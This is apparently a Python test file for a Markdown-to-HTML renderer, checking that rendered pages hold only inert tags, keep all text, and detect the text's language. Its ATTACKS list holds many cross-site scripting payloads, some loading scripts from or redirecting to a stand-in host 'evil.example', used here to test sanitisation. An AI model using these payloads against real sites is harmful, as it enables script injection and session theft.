"""Whatever a response holds, the page gets plain, inert HTML with all of its words."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from annotation.domain.rendering import language_of, shows_nothing, to_html

BLOCKS = {"p", "br", "hr", "pre", "blockquote", "ul", "ol", "li"}
INLINE = {"strong", "em", "s", "code"}
HEADINGS = {"h1", "h2", "h3", "h4", "h5", "h6"}
TABLES = {"div", "table", "thead", "tbody", "tr", "th", "td"}
TAGS = BLOCKS | INLINE | HEADINGS | TABLES
REGION = {("div", name) for name in ("class", "tabindex", "role", "aria-label")}


class Reader(HTMLParser):
    """What a browser would make of it: elements, attributes and text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name) for name, _ in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.tags.append("!--")

    def handle_decl(self, decl: str) -> None:
        self.tags.append("!")

    def handle_pi(self, data: str) -> None:
        self.tags.append("?")


def read(text: str) -> Reader:
    page = Reader(to_html(text))
    assert set(page.tags) <= TAGS, page.tags
    assert set(page.attributes) <= {("ol", "start"), *REGION}, page.attributes
    # A text makes no region but those around its tables.
    assert page.tags.count("div") == page.tags.count("table")
    return page


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<div style="position:fixed" onclick="alert(1)">x</div>',
    '<p dir="rtl" class="notice">x</p>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><button>Submit</button></form>",
    '<input name="helpfulness" value="1" checked>',
    "<style>*{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<base href=//evil.example>",
    "<!-- comment --><!DOCTYPE html><?php 1 ?>",
    "</div></main></body><h1 onclick=alert(1)>x",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example 'a\" onmouseover=\"alert(1)')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://evil.example/?a=1>",
    "![x](https://evil.example/track.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](x)',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "| <script>x</script> | <img src=x onerror=alert(1)> |\n|-:|:-:|\n| [x](javascript:1) |",
    "> <script>\n> alert(1)\n> </script>",
    "1. <details open ontoggle=alert(1)>\n   - <video src=x onerror=alert(1)>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_runs_loads_or_leads_away(text: str) -> None:
    read(text)


@settings(deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                *("<script>", "<img src=x onerror=y>", "</p>", "<a href='javascript:x'>", "<!--"),
                *("-->", "[x]", "(javascript:y)", "![", "](", "`", "```\n", "> ", "* ", "1. "),
                *("| ", "|-|\n", "\n", "\n\n", "    ", "\t", "**", "~~", "_", "# ", "\\", "&lt;"),
                *(
                    "&#60;",
                    '"',
                    "'",
                    "<",
                    ">",
                    "x",
                    "好",
                    "\x00",
                    "[1]: y\n",
                    "<http://x>",
                    "---\n",
                ),
            ]
        ),
        max_size=40,
    ).map("".join)
)
def test_no_mixture_of_marks_gets_through(text: str) -> None:
    read(text)


@pytest.mark.parametrize(
    ("text", "tags"),
    [
        ("# One\n\ntwo", ["h1", "p"]),
        ("**bold** _it_ ~~gone~~ `code`", ["p", "strong", "em", "s", "code"]),
        ("1. a\n2. b", ["ol", "li", "li"]),
        ("- a\n  - b", ["ul", "li", "ul", "li"]),
        ("> said", ["blockquote", "p"]),
        ("```python\nx = 1\n```", ["pre", "code"]),
        ("one\ntwo", ["p", "br"]),
        ("a\n\n---\n\nb", ["p", "hr", "p"]),
        ("|a|\n|-|\n|b|", ["div", "table", "thead", "tr", "th", "tbody", "tr", "td"]),
    ],
)
def test_markdown_is_kept(text: str, tags: list[str]) -> None:
    assert read(text).tags == tags


def test_a_list_that_starts_later_says_so() -> None:
    assert '<ol start="5">' in to_html("5. five\n6. six")


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("<b>shown</b> as written", "<b>shown</b> as written"),
        ("if a < b && c > d", "if a < b && c > d"),
        ("see [the list](https://a.example) there", "see the list there"),
        ("a * b * c, 2_000_000 and C:\\dir", "a * b * c, 2_000_000 and C:\\dir"),
        ("“引号”——破折号……", "“引号”——破折号……"),
        ("مرحبا world", "مرحبا world"),
        ("🙂 é ﬁ", "🙂 é ﬁ"),
    ],
)
def test_words_are_kept(text: str, words: str) -> None:
    assert read(text).text.strip() == words


@pytest.mark.parametrize(
    "text",
    [
        "\n".join("  " * depth + f"- level {depth}" for depth in range(25)),
        "".join("> " for _ in range(40)) + "level 24",
    ],
)
def test_deep_nesting_loses_nothing(text: str) -> None:
    assert "level 24" in read(text).text


@pytest.mark.parametrize(("cell", "name"), [("price", "Table"), ("价格", "表格")])
def test_a_table_scrolls_in_a_region_named_in_its_language(cell: str, name: str) -> None:
    html = to_html(f"| {cell} |\n|---|\n| 1 |")
    region = f'<div class="prose-table" tabindex="0" role="region" aria-label="{name}"><table>'
    assert html.startswith(region)


def test_a_huge_table_comes_through_whole() -> None:
    rows, columns = 400, 30
    line = "|" + "|".join(f" c{column} " for column in range(columns)) + "|\n"
    page = read(line + "|-" * columns + "|\n" + line * rows)
    assert page.tags.count("td") == rows * columns


@pytest.mark.parametrize("mark", ["[", "*a **b ", "`", "> ", "![", "<", "| ", "((", "~~", "- "])
def test_marks_without_end_come_to_an_end(mark: str) -> None:
    read(mark * 5_000)


def test_an_endless_word_and_an_empty_text() -> None:
    assert read("x" * 50_000).text.strip() == "x" * 50_000
    assert to_html("") == ""


@pytest.mark.parametrize(
    "text",
    [
        *("", " \n", "&nbsp;", "&#8203;\u3164", "**&nbsp;**", "[a]: http://a.example", "---", "#"),
        *("```\n```", "> - 1.", "[](http://a.example)", "[&#8203;](x)", "| |\n|-|\n| |"),
    ],
)
def test_what_shows_nothing(text: str) -> None:
    assert shows_nothing(text)
    assert not shows_nothing(f"{text}\n\nx")


@pytest.mark.parametrize(
    "text",
    [
        *("x", "# 字", "`&nbsp;`", "&amp;nbsp;", "[a](b)", "\\[a]: b", "| a |\n|-|", "&lt;", "5<3"),
        # There is no HTML and there are no images: what is written of them is shown.
        *("<!-- a -->", "<br>", "![](a.png)", "![a](b.png)"),
    ],
)
def test_what_shows_something(text: str) -> None:
    assert not shows_nothing(text)


@pytest.mark.parametrize(
    ("text", "lang"),
    [
        ("How do I keep a cactus alive?", "en"),
        ("我该怎么养仙人掌？", "zh-Hans"),
        ("用 Python 写一个 hello world 程序", "zh-Hans"),
        ("Use the word 你好 once, and otherwise write in plain English please.", "en"),
        ("", "en"),
        ("123 … — 🙂", "en"),
        ("。，！？", "en"),
        ("Où est la bibliothèque ?", "en"),
        ("好", "zh-Hans"),
        # Code and markup around a Chinese text do not make it English.
        ("| 列 | 值 |\n|---|---|\n| 价格 | 10 |", "zh-Hans"),
    ],
)
def test_the_language_of_a_text(text: str, lang: str) -> None:
    assert language_of(text) == lang
